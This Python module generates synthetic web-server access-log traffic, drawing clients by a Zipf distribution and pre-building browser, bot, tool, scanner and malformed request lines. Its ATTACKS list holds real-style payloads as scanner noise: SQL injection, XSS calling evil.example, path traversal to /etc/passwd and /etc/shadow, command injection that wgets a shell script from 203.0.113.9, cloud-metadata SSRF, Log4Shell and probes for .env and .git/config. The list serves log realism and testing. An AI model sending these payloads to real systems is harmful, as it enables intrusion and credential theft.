"""Who asks for what: clients by Zipf, the requests of each kind of client, drawn line by line from a seed.

Everything is made once at the start, clients as well as requests; a line is then one draw of both. So the generator keeps
up with hundreds of thousands of lines a second, and each format can render its pieces beforehand.
"""

import dataclasses
import itertools
import random

from generator import agents

CLIENTS = 60_000
BLOCK_LINES = 8192  # drawn at once; part of what a seed's lines are
REQUESTS = 20_000  # different ones, of each kind of client
ZIPF = 0.95

# Share of the lines and of the clients.
SHARES = {"browser": 0.778, "bot": 0.14, "tool": 0.07, "attacker": 0.01, "odd": 0.002}
POPULATION = {"browser": 0.93, "bot": 0.03, "tool": 0.02, "attacker": 0.015, "odd": 0.005}

SITE = "https://www.example.com"
WORDS = (
    "summer winter garden kitchen leather cotton wooden classic modern travel family outdoor running office light dark green "
    "blue silver golden small large premium basic repair guide review compare offer gift season history music photo news"
).split()
SECTIONS = ("products", "category", "blog", "help", "brands", "collections")
FILES = ("css/main", "css/print", "js/app", "js/vendor", "img/logo", "img/hero", "fonts/inter", "img/icons")
ENDINGS = ("css", "css", "js", "js", "svg", "webp", "woff2", "svg")
STATUSES = (200, 304, 206, 301, 302, 404, 403, 401, 429, 500, 502, 503)
STATUS_WEIGHTS = (820, 70, 6, 25, 18, 38, 5, 4, 2, 6, 3, 3)


@dataclasses.dataclass(frozen=True)
class Client:
    address: str
    user: str
    agent: str


@dataclasses.dataclass(frozen=True)
class Request:
    """`line` is the request line as the client sent it; None: nothing came."""

    line: str
    status: int
    size: int
    referrer: str
    duration_us: int
    fraction_us: int  # of the second in which it ended, for formats that are as precise


def product(rng):
    return f"{rng.choice(WORDS)}-{rng.choice(WORDS)}-{rng.choice(WORDS)}-{rng.randint(10000, 99999)}"


def page(rng):
    path = f"/{rng.choice(SECTIONS)}/{rng.choice(WORDS)}/{product(rng)}"
    if rng.random() < 0.2:
        path += f"?utm_source={rng.choice(WORDS)}&page={rng.randint(1, 40)}&sort={rng.choice(('price', 'name', 'new'))}"
    return path


def asset(rng):
    which = rng.randrange(len(FILES))
    return f"/static/{FILES[which]}.{rng.getrandbits(32):08x}.{ENDINGS[which]}"


def answer(rng, typical_bytes):
    status = rng.choices(STATUSES, STATUS_WEIGHTS)[0]
    size = 0 if status in (304, 301, 302) else int(rng.lognormvariate(0, 0.8) * typical_bytes)
    return status, size


def make_request(rng, line, typical_bytes, referrer="", status=None):
    drawn, size = answer(rng, typical_bytes)
    duration_us = int(rng.lognormvariate(9, 1.2))
    return Request(line, status or drawn, size, referrer, duration_us, rng.randrange(1_000_000))


def browser_request(rng):
    version = "2.0" if rng.random() < 0.6 else "1.1"
    dice = rng.random()
    if dice < 0.5:
        return make_request(rng, f"GET {asset(rng)} HTTP/{version}", 20_000, SITE + page(rng))
    if dice < 0.9:
        referrer = SITE + page(rng) if rng.random() < 0.6 else "https://www.google.com/" if rng.random() < 0.5 else ""
        return make_request(rng, f"GET {page(rng)} HTTP/{version}", 30_000, referrer)
    path = f"/api/v1/{rng.choice(('cart', 'search', 'session', 'track'))}?id={rng.randint(1, 10**7)}"
    return make_request(rng, f"POST {path} HTTP/{version}", 800, SITE + page(rng))


def bot_request(rng):
    path = "/robots.txt" if rng.random() < 0.05 else page(rng)
    return make_request(rng, f"GET {path} HTTP/1.1", 25_000)


def tool_request(rng):
    path = rng.choice((f"/api/v1/orders/{rng.randint(10**6, 10**7)}", f"/api/v1/stock/{rng.randint(1, 99999)}", "/healthz", "/feed.xml"))
    return make_request(rng, f"{rng.choice(('GET', 'GET', 'GET', 'POST', 'PUT', 'HEAD'))} {path} HTTP/1.1", 2_000)


ATTACKS = (
    "/products?id={n}%27%20OR%20%27{n}%27=%27{n}",
    "/search?q=x%27+UNION+ALL+SELECT+user,pass,{n}+FROM+accounts--+",
    "/item?id={n}%20AND%20SLEEP({n})",
    "/search?q=%3Cscript%3Efetch(%27//evil.example/{n}%27)%3C/script%3E",
    "/search?q=%22%3E%3Csvg/onload=alert({n})%3E",
    "/download?file=../../../../../../etc/passwd",
    "/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "/index.php?page=php://filter/convert.base64-encode/resource=config{n}",
    "/cgi-bin/status?host=127.0.0.1;cat%20/etc/hosts",
    "/ping?to=127.0.0.1%7Cwget%20http://203.0.113.9/{n}.sh",
    "/api/preview?url=http://169.254.169.254/latest/meta-data/{n}",
    "/?x=${{jndi:ldap://198.51.100.7/{n}}}",
    "/greet?name={{{{7*{n}}}}}",
    "/wp-login.php",
    "/xmlrpc.php?rsd={n}",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php?lang={n}",
    "/actuator/heapdump",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
)


def attacker_request(rng):
    target = rng.choice(ATTACKS).format(n=rng.randint(1, 9999))
    status = rng.choices((404, 403, 400, 200, 500), (60, 20, 10, 7, 3))[0]
    return make_request(rng, f"{rng.choice(('GET', 'GET', 'POST'))} {target} HTTP/1.1", 400, status=status)


def odd_request(rng):
    """What comes along that is no proper request, and what has to be escaped."""
    word = rng.choice(WORDS)
    line, status = rng.choice(
        (
            (None, 408),
            ("\x16\x03\x01\x00\xf7\x01\x00\x00\xf3\x03\x03" + "".join(chr(rng.randrange(128, 256)) for _ in range(12)), 400),
            ("GET /", 400),
            (f"GET /{word}", 200),
            ("OPTIONS * HTTP/1.0", 200),
            ("CONNECT mail.example.net:25 HTTP/1.1", 405),
            (f'GET /search?q="{word}" HTTP/1.1', 200),
            (f"GET /caf\xc3\xa9/{word} HTTP/1.1", 404),
            (f"GET /{word}/{'a' * 3000} HTTP/1.1", 414),
            ("PRI * HTTP/2.0", 400),
            (f"GET /{word}\\..\\boot.ini HTTP/1.1", 404),
        )
    )
    return make_request(rng, line, 200, f'{SITE}/?q="{word}"' if rng.random() < 0.2 else "", status=status)


KINDS = {
    "browser": (browser_request, agents.BROWSERS),
    "bot": (bot_request, agents.BOTS),
    "tool": (tool_request, agents.TOOLS),
    "attacker": (attacker_request, agents.SCANNERS),
    "odd": (odd_request, agents.BROWSERS[-4:] + ('Mozilla/5.0 "quoted" (X11)', "", "x" * 700)),
}


def make_address(rng):
    if rng.random() < 0.15:
        return f"2001:db8:{rng.randint(1, 0xffff):x}:{rng.randint(1, 0xffff):x}::{rng.randint(1, 0xffff):x}"
    while True:
        first = rng.randint(1, 223)
        if first not in (10, 127):
            return f"{first}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def make_user(rng):
    return rng.choice(("anna", "deploy", "j.smith", "m.miller@example.com")) if rng.random() < 0.03 else ""


class Traffic:
    """`clients` and `requests` are what may be drawn; draws() names them by their place there, so that each format renders
    them once."""

    def __init__(self, seed, clients=CLIENTS, requests=REQUESTS):
        self.requests_a_kind = requests
        self.rng = random.Random(seed)
        self.clients, self.requests, self.first_request = [], [], []
        weights = []
        for kind, (make, kind_agents) in KINDS.items():
            first = len(self.requests)
            self.requests += [make(self.rng) for _ in range(requests)]
            count = max(1, round(clients * POPULATION[kind]))
            agent_weights = [1 / (rank + 3) for rank in range(len(kind_agents))]
            drawn = self.rng.choices(kind_agents, agent_weights, k=count)
            self.clients += [Client(make_address(self.rng), make_user(self.rng), agent) for agent in drawn]
            self.first_request += [first] * count
            ranks = [1 / (rank + 4) ** ZIPF for rank in range(count)]
            total = sum(ranks)
            weights += [SHARES[kind] * weight / total for weight in ranks]
        self.cumulative = list(itertools.accumulate(weights))

    def draws(self):
        """Endless blocks of [(client, request)], as places in `clients` and `requests`."""
        places, first, draw = range(len(self.clients)), self.first_request, self.rng.random
        count = self.requests_a_kind
        while True:
            drawn = self.rng.choices(places, cum_weights=self.cumulative, k=BLOCK_LINES)
            yield [(client, first[client] + int(draw() * count)) for client in drawn]
